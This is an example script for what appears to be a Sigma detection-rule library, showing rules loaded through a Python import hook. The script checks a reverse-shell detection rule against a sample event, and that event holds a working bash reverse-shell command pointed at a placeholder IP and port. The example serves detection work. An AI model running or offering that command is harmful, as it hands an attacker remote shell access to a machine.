"""Rules by ``import``: run as ``python examples/embed/import_rules.py``."""

from __future__ import annotations

import sys
from pathlib import Path

import sigma.pyeval.importer

sigma.pyeval.importer.install(pipeline="linux_eval")
sys.path.append(str(Path(__file__).parent.parent))  # the folder that holds rules/

from rules import reverse_shell_dev_tcp  # noqa: E402

event = {"_EXE": "/usr/bin/bash", "_CMDLINE": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"}
for match in reverse_shell_dev_tcp.match(event):
    print(match.rule.level, match.rule.title)
